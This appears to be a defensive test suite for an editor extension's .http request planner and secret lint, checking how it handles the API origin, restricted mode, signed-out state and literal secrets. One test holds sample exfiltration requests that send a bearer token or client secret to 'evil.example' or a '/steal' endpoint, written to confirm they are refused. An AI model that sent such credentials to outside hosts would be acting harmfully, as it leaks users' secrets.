// What sending a `.http` request means (src/httpFiles/httpSendPlan.ts): restricted mode, signed
// out, missing variables, the origin rule for the credential expressions, implicit mode; and the
// lint (httpLint.ts) that keeps secrets out of files. Then the plan's draft through the real
// pipeline: the credential headers it leaves out are the ones the pipeline adds.
import * as assert from 'node:assert/strict';
import { lintHttpFile } from '../../src/httpFiles/httpLint';
import { parseHttpFile } from '../../src/httpFiles/httpParser';
import { planSend, RESTRICTED_MESSAGE, type SendContext, type SendPlan } from '../../src/httpFiles/httpSendPlan';
import { fileVariableMap } from '../../src/httpFiles/httpVariables';
import { prepareDraft, preparePlainDraft } from '../../src/mx/request';
import { sources } from './httpVariables.test';

const API = 'http://127.0.0.1:4001';
const PROFILE = { apiUrl: API, authUrl: 'http://127.0.0.1:4000' };

function plan(text: string, context: Partial<SendContext> = {}, index = 0): SendPlan {
  const parsed = parseHttpFile(text);
  return planSend(parsed.requests[index], { trusted: true, profile: PROFILE, sources: sources({ file: fileVariableMap(parsed.variables), mx: PROFILE }), ...context });
}

function draftOf(result: SendPlan) {
  assert.equal(result.kind, 'send', 'message' in result ? result.message : '');
  return (result as Extract<SendPlan, { kind: 'send' }>).draft;
}

describe('.http send plan', () => {
  it('implicit mode: a path on the API base becomes a draft without credential headers', () => {
    const draft = draftOf(plan('GET {{mxApi}}/mxs/reference-data/v1/cinema-chains\nX-Trace: {{$guid}}'));
    assert.deepEqual(draft, {
      method: 'GET',
      url: '/mxs/reference-data/v1/cinema-chains',
      query: [],
      headers: [{ name: 'X-Trace', value: '11111111-2222-4333-8444-555555555555', enabled: true }],
      body: '',
    });
    assert.equal(draftOf(plan('/mxs/reference-data/v1/cinema-chains')).url, '/mxs/reference-data/v1/cinema-chains');
  });

  it('explicit mode: the credential expressions are dropped for the pipeline to add the real values', () => {
    const result = plan(
      'POST {{mxApi}}/mxt/x\nAuthorization: Bearer {{$auth.token("mx")}}\nMX-Api-Client-Secret: {{$mx.clientSecret}}\nContent-Type: application/json\n\n{"a": "{{$isoTimestamp}}"}',
    );
    const draft = draftOf(result);
    assert.deepEqual(draft.headers.map((h) => h.name), ['Content-Type']);
    assert.equal(draft.body, '{"a": "2026-12-01T18:00:00.000Z"}');
    assert.doesNotMatch(JSON.stringify(result), /auth\.token|clientSecret/);
    // Through the real pipeline: it adds Accept, keeps Content-Type; MxApiClient.send adds the credentials.
    const prepared = prepareDraft(draft, API);
    assert.ok(prepared.ok);
    assert.deepEqual(prepared.request.headers, [['Accept', 'application/json'], ['Content-Type', 'application/json']]);
  });

  it('refuses the credential expressions for another origin, and says "refused"', () => {
    for (const text of [
      'GET http://127.0.0.1:9999/steal\nAuthorization: Bearer {{$auth.token("mx")}}',
      'GET https://evil.example/x?s={{$mx.clientSecret}}',
      '@target = http://localhost:4001\nGET {{target}}/x\nMX-Api-Client-Secret: {{$mx.clientSecret}}',
      'POST https://evil.example/x\n\n{"t": "{{$auth.token(\'mx\')}}"}',
    ]) {
      const result = plan(text);
      assert.equal(result.kind, 'refused', text);
      assert.match((result as { message: string }).message, /^Request refused: .* may only go to http:\/\/127\.0\.0\.1:4001, .*Nothing was sent\.$/);
    }
  });

  it('refuses the expressions outside the credential headers, even on the API origin', () => {
    assert.equal(plan('GET /x?t={{$auth.token("mx")}}').kind, 'refused');
    assert.equal(plan('GET /x\nX-Token: {{$mx.clientSecret}}').kind, 'refused');
    assert.equal(plan('POST /x\n\n{{$mx.clientSecret}}').kind, 'refused');
  });

  it('another origin without the credential expressions: sent as written, with no MX credentials', () => {
    const result = plan('POST https://example.com/hooks/{{$guid}}?a=1\nX-Trace: t\nContent-Type: application/json\n\n{"n": 1}');
    assert.equal(result.kind, 'send');
    const send = result as Extract<SendPlan, { kind: 'send' }>;
    assert.equal(send.credentials, 'none');
    assert.deepEqual(send.draft, {
      method: 'POST',
      url: 'https://example.com/hooks/11111111-2222-4333-8444-555555555555?a=1',
      query: [],
      headers: [
        { name: 'X-Trace', value: 't', enabled: true },
        { name: 'Content-Type', value: 'application/json', enabled: true },
      ],
      body: '{"n": 1}',
    });
    assert.equal(send.label, 'POST https://example.com/hooks/11111111-2222-4333-8444-555555555555?a=1');
    assert.equal(draftOf(plan('GET /x')).url, '/x');
    assert.equal((plan('GET /x') as Extract<SendPlan, { kind: 'send' }>).credentials, 'session', 'the API origin keeps the session');
  });

  it('another origin: a credential header of its own is refused by the pipeline, not sent', () => {
    const send = plan('GET https://example.com/x\nAuthorization: Basic dXNlcjpwYXNz') as Extract<SendPlan, { kind: 'send' }>;
    const prepared = preparePlainDraft(send.draft);
    assert.ok(!prepared.ok && /without credentials of any kind/.test(prepared.reason));
  });

  it('a literal credential header is not sent, with what to write instead', () => {
    const result = plan('GET /x\nAuthorization: Bearer eyJhbGciOi.literal.token');
    assert.equal(result.kind, 'invalidRequest');
    assert.match((result as { message: string }).message, /write "Authorization: Bearer \{\{\$auth\.token\("mx"\)\}\}"/);
    assert.doesNotMatch((result as { message: string }).message, /eyJ/);
  });

  it('restricted mode sends nothing, and says to trust the workspace', () => {
    assert.deepEqual(plan('GET /x', { trusted: false }), { kind: 'untrusted', message: RESTRICTED_MESSAGE });
    assert.match(RESTRICTED_MESSAGE, /Trust the workspace/);
  });

  it('signed out sends nothing; missing variables and body files say what is missing', () => {
    assert.equal(plan('GET /x', { profile: undefined }).kind, 'signedOut');
    const missing = plan('GET /x/{{nope}}\nA: {{$processEnv NOPE}}');
    assert.equal(missing.kind, 'missing');
    assert.match((missing as { message: string }).message, /Unknown variable \{\{nope\}\}.*Environment variable NOPE is not set\./);
    const noFile = plan('POST /x\n\n< ./body.json');
    assert.deepEqual(noFile, { kind: 'missing', message: 'Not sent: The body file ./body.json could not be read.' });
    assert.equal(draftOf(plan('POST /x\n\n< ./body.json', { bodyFileText: '{"from":"file"}' })).body, '{"from":"file"}');
  });

  it('carries # @note as a question to ask first', () => {
    const result = plan('# @note holds real seats\nPOST /x');
    assert.equal(result.kind === 'send' && result.note, 'holds real seats');
  });
});

describe('.http lint', () => {
  it('flags literal secrets with their replacement, and unknown variables', () => {
    const text = [
      'POST {{mxAuth}}/connect/token',
      'Content-Type: application/x-www-form-urlencoded',
      '',
      'grant_type=password&username=u&password=hunter2',
      '',
      '###',
      'GET {{mxApi}}/x/{{nope}}',
      'Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.e30.sig',
      'MX-Api-Client-Secret: s3cr3t',
    ].join('\n');
    const problems = lintHttpFile(text, parseHttpFile(text), sources());
    assert.deepEqual(
      problems.map((p) => [p.code, p.line, p.startChar, p.endChar, p.replacement]),
      [
        ['passwordInBody', 3, 0, 47, undefined],
        ['literalToken', 7, 22, 50, '{{$auth.token("mx")}}'],
        ['literalClientSecret', 8, 22, 28, '{{$mx.clientSecret}}'],
        ['unknownVariable', 6, 16, 24, undefined],
      ],
    );
    for (const p of problems) assert.doesNotMatch(p.message, /hunter2|eyJ|s3cr3t/);
  });

  it('is quiet on a clean file, and about mxApi while signed out', () => {
    const text = 'GET {{mxApi}}/x\nAuthorization: Bearer {{$auth.token("mx")}}\nMX-Api-Client-Secret: {{$mx.clientSecret}}';
    assert.deepEqual(lintHttpFile(text, parseHttpFile(text), sources()), []);
    assert.deepEqual(lintHttpFile(text, parseHttpFile(text), sources({ mx: undefined })), []);
  });
});
